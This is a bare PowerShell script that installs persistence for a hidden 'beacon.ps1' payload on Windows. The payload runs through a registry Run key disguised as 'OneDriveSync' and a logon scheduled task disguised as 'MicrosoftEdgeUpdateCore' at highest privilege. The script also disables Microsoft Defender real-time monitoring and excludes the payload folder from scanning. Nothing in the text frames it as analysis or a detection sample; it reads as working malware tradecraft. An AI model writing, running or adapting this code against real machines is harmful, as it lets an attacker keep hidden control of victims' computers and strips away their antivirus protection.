$payload = 'powershell.exe -NoP -W Hidden -File C:\ProgramData\svc\beacon.ps1'

New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'OneDriveSync' -Value $payload -PropertyType String -Force | Out-Null

$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoP -W Hidden -File C:\ProgramData\svc\beacon.ps1'
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateCore' -Action $action -Trigger $trigger -RunLevel Highest -Force | Out-Null

Set-MpPreference -DisableRealtimeMonitoring $true
Add-MpPreference -ExclusionPath 'C:\ProgramData\svc'
